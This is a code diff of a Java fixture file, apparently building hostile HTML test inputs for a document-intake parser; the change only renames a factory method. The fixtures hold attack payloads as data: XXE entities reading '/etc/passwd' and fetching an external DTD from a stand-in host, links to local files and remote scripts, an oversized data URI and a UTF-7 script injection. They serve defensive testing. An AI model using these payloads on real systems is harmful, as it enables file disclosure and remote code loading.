@@ -1,7 +1,7 @@
 package org.gouji.intake.hostile;
 
 import static org.gouji.document.Archives.text;
-import static org.gouji.intake.hostile.HostileFile.of;
+import static org.gouji.intake.hostile.HostileFile.hostile;
 import static org.gouji.intake.hostile.HostileFile.showing;
 
 import java.util.ArrayList;
@@ -114,30 +114,30 @@ final class PageFiles {
     }
 
     private static void shape(List<HostileFile> files, String name, String end) {
-        files.add(of("shape-" + name + ".html", () -> Draft.page("", Draft.FIGURE, end)));
+        files.add(hostile("shape-" + name + ".html", () -> Draft.page("", Draft.FIGURE, end)));
     }
 
     private static void addReaching(List<HostileFile> files) {
-        files.add(of("reaches-entities.html", () -> text("""
+        files.add(hostile("reaches-entities.html", () -> text("""
                 <?xml version="1.0"?><!DOCTYPE html [<!ENTITY a "99"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">
                 <!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY % y SYSTEM "http://198.51.100.1/y.dtd"> %y;]>
                 <html><body><p>&b;&x;</p></body></html>
                 """)));
-        files.add(of("reaches-links.html", () -> Draft.page("""
+        files.add(hostile("reaches-links.html", () -> Draft.page("""
                 <base href="file:///etc/"><meta http-equiv="refresh" content="0;url=http://198.51.100.1/">
                 <link rel="stylesheet" href="http://198.51.100.1/a.css"><script src="//198.51.100.1/a.js"></script>
                 """, Draft.FIGURE, """
                 <img src="file:///etc/passwd"><img src="\\\\198.51.100.1\\share\\a.png"><iframe src="passwd"></iframe>
                 <object data="http://198.51.100.1/a"></object><embed src="a"><xi:include href="file:///etc/passwd"/>
                 """)));
-        files.add(of(
+        files.add(hostile(
                 "reaches-data.html",
                 () -> Draft.page(
                         "",
                         "<img src='data:image/png;base64," + "A".repeat(500_000) + "'>",
                         "<img src='data:text/html;base64,%%%'><img src='data:;base64'><img src='data:'>")));
         files.add(
-                of(
+                hostile(
                         "declares-utf-7.html",
                         () -> text(
                                 "<html><head><meta charset='utf-7'></head><body>+ADw-script+AD4-alert(1)+ADw-/script+AD4-</body></html>")));
